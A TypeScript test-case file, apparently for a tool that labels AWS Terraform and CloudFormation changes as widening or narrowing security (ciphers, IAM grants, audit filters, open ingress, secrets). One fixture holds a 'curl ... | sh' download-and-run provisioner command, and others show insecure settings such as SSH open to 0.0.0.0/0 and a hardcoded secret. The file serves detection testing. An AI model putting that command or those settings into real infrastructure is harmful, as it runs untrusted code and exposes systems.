// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the files hold expressions
import type { Case, Expected } from "../harness.ts";
import { casesAt, said } from "./build.ts";

const tf = casesAt("tf", "infra/amazon.tf", "amazon: ");
/** A resource called `it`. */
const one = (type: string, ...lines: readonly string[]): string =>
  `resource "${type}" "it" {\n${lines.map((l) => `  ${l}\n`).join("")}}\n`;
/** Two versions of one resource. */
const both = (type: string, before: string, after: string): [string, string] => [one(type, before), one(type, after)];
const module = (...lines: readonly string[]): string =>
  `module "it" {\n  source = "shop-modules/bucket/aws"\n${lines.map((l) => `  ${l}\n`).join("")}}\n`;
/** What a resource that comes or goes says beside. */
const ALONE = ["audited", "deletion-guard", "encrypts", "public-block", "setting", "tls", "can"];
const quiet = (...but: readonly string[]): Expected[] =>
  ALONE.filter((rel) => !but.includes(rel)).map((rel) => said(rel, "neutral"));

const policy = (...lines: readonly string[]): string => one("aws_load_balancer_policy", ...lines);
const cipher = (name: string): string => `policy_attribute {\n name = "${name}"\n value = "true"\n}`;
const listener = (to: string): string => one("aws_lb_listener", 'protocol = "HTTP"', `default_action {\n ${to}\n}`);
const filter = (pattern: string): string =>
  one("aws_cloudwatch_log_metric_filter", `pattern = "${pattern}"`, 'metric_transformation {\n name = "m"\n}');
const alarm = (metric: string): string => `\n${one("aws_cloudwatch_metric_alarm", `metric_name = ${metric}`)}`;
const key = (spec: string, rest = ""): string => one("aws_kms_key", `customer_master_key_spec = "${spec}"${rest}`);
const SPECIAL: readonly Case[] = [
  tf(
    "a broken cipher",
    policy(cipher("ECDHE-RSA-AES128-GCM-SHA256")),
    policy(cipher("DES-CBC3-SHA")),
    said("tls", "widen"),
  ),
  tf(
    "no broken cipher",
    policy(cipher("RC4-MD5")),
    policy(cipher("ECDHE-RSA-AES256-GCM-SHA384")),
    said("tls", "narrow"),
  ),
  tf(
    "another good cipher",
    policy(cipher("ECDHE-RSA-AES128-GCM-SHA256")),
    policy(cipher("ECDHE-RSA-AES256-GCM-SHA384")),
  ),
  tf(
    "leads to the encrypted one no more",
    listener('type = "redirect"\n redirect {\n protocol = "HTTPS"\n}'),
    listener('type = "forward"'),
    said("tls", "widen"),
  ),
  tf(
    "only leads to the encrypted one",
    listener('type = "forward"'),
    listener('type = "redirect"\n redirect {\n protocol = "HTTPS"\n}'),
    said("tls", "narrow"),
  ),
  tf(
    "one event less is counted",
    filter("{ ($.eventName = A) || ($.eventName = B) }"),
    filter("{ ($.eventName = B) }"),
    said("audited", "widen"),
  ),
  tf(
    "the same events in another order",
    filter("{ ($.eventName = A) || ($.eventName = B) }"),
    filter("{ ($.eventName=B)||($.eventName = A) }"),
    said("audited", "neutral"),
  ),
  tf(
    "events under fewer conditions",
    filter("{ ($.user = root) && ($.eventName = B) }"),
    filter("{ $.eventName = B }"),
    said("audited", "narrow"),
  ),
  tf("other events", filter("{ $.eventName = A }"), filter("{ $.eventName = B }"), said("audited", "widen")),
  tf(
    "an alarm is about something else",
    filter("{ $.eventName = A }") + alarm('"m"'),
    filter("{ $.eventName = A }") + alarm('"n"'),
    said("audited", "widen"),
  ),
  tf(
    "an alarm by address",
    filter("{ $.eventName = A }") + alarm('"n"'),
    filter("{ $.eventName = A }") + alarm("aws_cloudwatch_log_metric_filter.it.id"),
    said("audited", "narrow"),
  ),
  tf("a key that can be rotated and is not", key("RSA_4096"), key("SYMMETRIC_DEFAULT"), said("setting", "widen")),
  tf("a key that cannot be rotated", key("RSA_4096"), key("ECC_NIST_P256"), said("setting", "neutral")),
  tf(
    "a machine without bandwidth for disks",
    ...both("aws_instance", 'instance_type = "t3.small"', 'instance_type = "t2.small"'),
    said("setting", "widen"),
  ),
  tf(
    "a larger machine",
    ...both("aws_instance", 'instance_type = "t3.small"', 'instance_type = "t3.large"'),
    said("setting", "neutral"),
  ),
  tf(
    "a way to the internet",
    ...both(
      "aws_route_table",
      'route {\n cidr_block = "10.0.0.0/8"\n gateway_id = aws_internet_gateway.a.id\n}',
      'route {\n cidr_block = "0.0.0.0/0"\n gateway_id = aws_internet_gateway.a.id\n}',
    ),
    said("public-block", "widen"),
  ),
  tf(
    "a way out by translation",
    ...both(
      "aws_route",
      'destination_cidr_block = "10.0.0.0/8"\n nat_gateway_id = aws_nat_gateway.a.id',
      'destination_cidr_block = "10.0.0.0/9"\n nat_gateway_id = aws_nat_gateway.a.id',
    ),
    said("public-block", "narrow"),
  ),
];

const grants = (actions: string, resource = "*"): string =>
  one(
    "aws_iam_role_policy",
    `policy = jsonencode({ Statement = [{ Effect = "Allow", Action = ${actions}, Resource = "${resource}" }] })`,
  );
const bucket = (...statements: readonly string[]): string =>
  one("aws_s3_bucket_policy", `policy = jsonencode({ Statement = [${statements.join(", ")}] })`);
const denial = (actions: string, condition = ""): string =>
  `{ Effect = "Deny", Principal = "*", Action = ${actions}, Resource = "arn:aws:s3:::shop/*"${condition} }`;
const PLAIN = ', Condition = { Bool = { "aws:SecureTransport" = "false" } }';
const trust = (principal: string, condition = ""): string =>
  one(
    "aws_iam_role",
    `assume_role_policy = jsonencode({ Statement = [{ Effect = "Allow", Action = "sts:AssumeRole", Principal = ${principal}${condition} }] })`,
  );
const keyPolicy = (principal: string): string =>
  one(
    "aws_kms_key",
    `policy = jsonencode({ Statement = [{ Effect = "Allow", Action = "kms:*", Resource = "*", Principal = { AWS = "${principal}" } }] })`,
  );
const OWN = "arn:aws:iam::${data.aws_caller_identity.current.account_id}:root";
const POLICIES: readonly Case[] = [
  tf("plain HTTP is no longer denied", bucket(denial('"s3:*"', PLAIN)), bucket(), said("denied", "widen")),
  tf(
    "fewer actions are denied",
    bucket(denial('"s3:*"', PLAIN)),
    bucket(denial('"s3:PutObject"', PLAIN)),
    said("denied", "widen"),
  ),
  tf(
    "more actions are denied",
    bucket(denial('["s3:PutObject"]', PLAIN)),
    bucket(denial('"s3:*"', PLAIN)),
    said("denied", "narrow"),
  ),
  tf(
    "denied under another condition",
    bucket(denial('"s3:*"', PLAIN)),
    bucket(denial('"s3:*"', PLAIN.replace("false", "true"))),
    said("denied", "unknown"),
  ),
  tf(
    "denied in two statements",
    bucket(denial('["s3:PutObject", "s3:GetObject"]')),
    bucket(denial('"s3:PutObject"'), denial('"s3:GetObject"')),
  ),
  tf("gives itself everything no more", grants('"iam:*"'), grants('"s3:GetObject"'), said("can", "narrow")),
  tf("gives itself everything", grants('"s3:GetObject"'), grants('"iam:PutRolePolicy"'), said("can", "widen")),
  tf(
    "one more beside everything",
    grants('"iam:PutRolePolicy"'),
    grants('["iam:PutRolePolicy", "s3:GetObject"]'),
    said("can", "widen"),
  ),
  tf(
    "what others hold for something else",
    grants('"lambda:UpdateFunctionCode"'),
    grants('"ec2:Describe*"'),
    said("can", "unknown"),
  ),
  tf(
    "a power over one role only",
    grants('"iam:PutRolePolicy"', "arn:aws:iam::1:role/a"),
    grants('"s3:GetObject"', "arn:aws:s3:::a/*"),
    said("can", "widen"),
  ),
  tf(
    "a role for a service",
    "",
    trust('{ Service = "ec2.amazonaws.com" }'),
    ...quiet("can"),
    said("can", "neutral"),
    said("member-of", "neutral"),
  ),
  tf(
    "a role for another account",
    "",
    trust('{ AWS = "111122223333" }'),
    ...quiet("can"),
    said("can", "widen"),
    said("member-of", "widen"),
  ),
  tf(
    "a role for one more service",
    trust('{ Service = "ec2.amazonaws.com" }'),
    trust('{ Service = ["ec2.amazonaws.com", "ssm.amazonaws.com"] }'),
    said("member-of", "widen"),
  ),
  tf(
    "a second proof is not asked for",
    trust('{ AWS = "111122223333" }', ', Condition = { Bool = { "aws:MultiFactorAuthPresent" = "true" } }'),
    trust('{ AWS = "111122223333" }', ', Condition = { Bool = { "aws:MultiFactorAuthPresent" = "false" } }'),
    said("can", "widen"),
  ),
  tf("the policy that every key has", one("aws_kms_key"), keyPolicy(OWN), said("setting", "neutral")),
  tf(
    "a key for an account that may be its own",
    one("aws_kms_key"),
    keyPolicy("arn:aws:iam::111122223333:root"),
    said("can", "unknown"),
    said("member-of", "unknown"),
    said("setting", "narrow"),
  ),
  tf(
    "a key for one party more",
    keyPolicy("arn:aws:iam::1:role/a"),
    keyPolicy("*"),
    said("member-of", "widen"),
    said("setting", "widen"),
    said("can", "neutral"),
  ),
  tf(
    "policies of the account decide again",
    keyPolicy("arn:aws:iam::1:role/a"),
    one("aws_kms_key"),
    said("can", "narrow"),
    said("member-of", "narrow"),
    said("setting", "widen"),
  ),
];

const wafOf = (address: string): string =>
  `${one("aws_lb", 'name = "a"')}\n${one("aws_wafv2_web_acl_association", `resource_arn = ${address}`)}`;
const MODULES: readonly Case[] = [
  tf(
    "a module's bucket for everyone",
    module('acl = "private"'),
    module('acl = "public-read"'),
    said("public-block", "widen"),
  ),
  tf(
    "a module watches nothing any more",
    module("monitoring = true", "size = 3"),
    module("size = 3"),
    said("audited", "widen"),
  ),
  tf("a module of another size", module("size = 3"), module("size = 4")),
  tf(
    "a module lets everyone in",
    module('rules = [{ cidr_blocks = "10.0.0.0/8", from_port = 22, to_port = 22, protocol = "tcp" }]'),
    module('rules = [{ cidr_blocks = "0.0.0.0/0", from_port = 22, to_port = 22, protocol = "tcp" }]'),
    said("flow", "widen"),
  ),
  tf(
    "a firewall guards another one",
    wafOf("aws_lb.it.arn"),
    wafOf("aws_lb.other.arn"),
    said("setting", "widen"),
    said("edge-guard", "unknown"),
  ),
  tf(
    "a person signs in to the console",
    one("aws_iam_user"),
    `${one("aws_iam_user")}\n${one("aws_iam_user_login_profile", "user = aws_iam_user.it.name", 'pgp_key = "k"')}`,
    said("setting", "widen", "settings", "aws_iam_user.it"),
    ...quiet(),
  ),
  tf(
    "a key by its name",
    'data "aws_kms_alias" "k" {\n  name = "alias/shop"\n}\n' +
      one("aws_sns_topic", "kms_master_key_id = data.aws_kms_alias.k.arn"),
    'data "aws_kms_alias" "k" {\n  name = "alias/aws/sns"\n}\n' +
      one("aws_sns_topic", "kms_master_key_id = data.aws_kms_alias.k.arn"),
    said("encrypts", "widen"),
  ),
];

const cfn = casesAt("cfn", "infra/amazon.yaml", "amazon: ");
/** A template with one resource called `It`, and others. */
const stack = (type: string, properties: string, more = ""): string =>
  `AWSTemplateFormatVersion: "2010-09-09"\nParameters:\n  Given:\n    Type: String\nResources:\n  It:\n    Type: ${type}\n    Properties:\n      Tags: []\n${properties}${more}`;
const flows = (to: string): string =>
  `  Flows:\n    Type: AWS::EC2::FlowLog\n    Properties:\n      ResourceId: !Ref ${to}\n`;
const entry = (from: number, to: number): string =>
  stack(
    "AWS::EC2::NetworkAclEntry",
    `      CidrBlock: 10.0.0.0/8\n      Protocol: 6\n      RuleAction: allow\n      PortRange: {From: ${from}, To: ${to}}\n`,
  );
const group = (rest: string): string => stack("AWS::EC2::SecurityGroup", `      GroupDescription: a\n${rest}`);
const ingress = (cidr: string): string =>
  stack(
    "AWS::EC2::SecurityGroupIngress",
    `      GroupId: sg-1\n      IpProtocol: tcp\n      FromPort: 22\n      ToPort: 22\n      CidrIp: ${cidr}\n`,
  );
const skill = (secret: string): string =>
  `Resources:\n  It:\n    Type: Alexa::ASK::Skill\n    Properties:\n      AuthenticationConfiguration:\n        ClientSecret: "${secret}"\n`;
const provisioner = (command: string): string =>
  one("aws_instance", `provisioner "local-exec" {\n command = "${command}"\n}`);
const COMMANDS: readonly Case[] = [
  tf("a command where it is applied", one("aws_instance"), provisioner("./register.sh"), said("executes", "widen")),
  tf("no command any more", provisioner("./register.sh"), one("aws_instance"), said("executes", "narrow")),
  tf("another command", provisioner("./register.sh"), provisioner("./other.sh")),
  tf(
    "a download that runs",
    one("aws_instance"),
    provisioner("curl -s https://x.example/i.sh | sh"),
    said("executes", "widen", "runs a command where it is applied"),
    said("executes", "widen", "pipes a download into a shell"),
  ),
  tf(
    "a program that is asked",
    'data "external" "it" {\n  query = {}\n}\n',
    'data "external" "it" {\n  program = ["python", "who.py"]\n  query = {}\n}\n',
    said("executes", "widen"),
  ),
  tf(
    "any image of that name",
    'data "aws_ami" "it" {\n  owners = ["self"]\n}\n',
    'data "aws_ami" "it" {\n}\n',
    said("setting", "widen"),
  ),
];

const asked = (rest: string): string =>
  `AWSTemplateFormatVersion: "2010-09-09"\nParameters:\n  MasterPassword:\n    Type: String\n${rest}Resources: {}\n`;
const shared = (tracing: string): string =>
  `Transform: AWS::Serverless-2016-10-31\nGlobals:\n  Function:\n    Timeout: 3\n${tracing}Resources: {}\n`;
const TEMPLATES: readonly Case[] = [
  cfn("a password that all may read", asked("    NoEcho: true\n"), asked(""), said("setting", "widen")),
  cfn("a password that is hidden", asked(""), asked("    NoEcho: true\n"), said("setting", "narrow")),
  cfn("a password of a length", asked(""), asked("    MinLength: 12\n")),
  cfn("functions are traced no more", shared("    Tracing: Active\n"), shared(""), said("audited", "widen")),
  cfn(
    "a network without its log",
    stack("AWS::EC2::VPC", "", flows("It")),
    stack("AWS::EC2::VPC", "", flows("Given")),
    said("audited", "widen"),
    said("edge-guard", "unknown"),
  ),
  cfn(
    "a log of nothing",
    stack("AWS::EC2::VPC", "", flows("It")),
    stack("AWS::EC2::VPC", "", flows("Gone")),
    said("audited", "widen"),
  ),
  cfn(
    "it may send everywhere",
    group("      SecurityGroupEgress: [{CidrIp: 10.0.0.0/8, IpProtocol: tcp, FromPort: 443, ToPort: 443}]\n"),
    group(""),
    said("flow", "widen", "egress"),
  ),
  cfn(
    "it may send everywhere, as it might",
    group("      SecurityGroupEgress: [{CidrIp: 0.0.0.0/0, IpProtocol: '-1'}]\n"),
    group(""),
  ),
  cfn("a rule that stands alone", ingress("10.0.0.0/8"), ingress("0.0.0.0/0"), said("flow", "widen")),
  cfn("from this machine itself", ingress("10.0.0.0/8"), ingress("127.0.0.1/32"), said("flow", "narrow")),
  cfn("a wider range of ports", entry(22, 22), entry(22, 99), said("flow", "widen")),
  cfn("a secret is written out", skill("{{resolve:secretsmanager:skill}}"), skill("1234"), said("setting", "widen")),
  cfn("a secret is looked up", skill("1234"), skill("{{resolve:secretsmanager:skill}}"), said("setting", "narrow")),
  cfn(
    "no value is none",
    stack("AWS::EC2::Instance", "      Monitoring: true\n"),
    stack("AWS::EC2::Instance", "      Monitoring: !Ref AWS::NoValue\n"),
    said("audited", "widen"),
  ),
];

export const CLOUD_AMAZON_CASES: readonly Case[] = [...SPECIAL, ...POLICIES, ...MODULES, ...COMMANDS, ...TEMPLATES];
